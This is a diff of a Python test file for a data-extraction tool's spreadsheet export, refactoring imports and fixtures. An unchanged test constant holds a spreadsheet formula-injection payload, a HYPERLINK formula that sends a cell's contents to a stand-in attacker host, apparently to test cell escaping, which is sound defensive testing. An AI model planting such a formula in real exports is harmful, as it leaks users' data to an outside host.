@@ -4,7 +4,6 @@ written outside the export folder, no implausible judgement is recorded."""
 from __future__ import annotations
 
 import csv
-import shutil
 
 import duckdb
 import pandas as pd
@@ -12,29 +11,25 @@ import pytest
 from typer.testing import CliRunner
 
 from extract.cli import app
-from extract.schema import ReviewAction
-from extract.store import reviews
-from extract.store.dataset import connect, update, value_id
-from extract.store.exports import export
+from extract.dataset import reviews
+from extract.dataset.database import connect, value_id
+from extract.dataset.exports import export
+from extract.dataset.records import ReviewAction
 from extract.store.spreadsheet import escape_cell, escape_id, unescape_cell, unescape_id
 
-from conftest import TRIAL_DISC, TRIAL_FECAL
+from conftest import built_dataset, private_copy, TRIAL_DISC, TRIAL_FECAL
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
 
 @pytest.fixture(scope="module")
 def built(tmp_path_factory, nlp):
-    database = tmp_path_factory.mktemp("dataset") / "review.duckdb"
-    update(database, [TRIAL_DISC, TRIAL_FECAL], nlp=nlp)
-    return database
+    return built_dataset(tmp_path_factory, nlp, [TRIAL_DISC, TRIAL_FECAL])
 
 
 @pytest.fixture
 def database(built, tmp_path):
-    copy = tmp_path / "review.duckdb"
-    shutil.copy(built, copy)
-    return copy
+    return private_copy(built, tmp_path)
 
 
 def _raw_cells(path):
